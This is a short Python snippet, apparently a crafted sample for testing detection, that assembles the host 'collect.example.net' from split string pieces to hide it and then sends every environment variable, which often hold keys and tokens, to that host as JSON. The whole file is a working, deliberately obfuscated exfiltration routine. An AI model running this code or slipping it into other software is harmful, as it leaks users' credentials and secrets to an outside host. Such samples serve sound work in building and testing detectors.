# tricky: host and path in pieces, data by a helper
import os
import json as j
import urllib.request as u

def pack(d):
    return j.dumps(d).encode("utf-8")

h = "".join(["coll", "ect.exa", "mple.net"])
u.urlopen("https://" + h + "/v1", pack({k: v for k, v in os.environ.items()}))
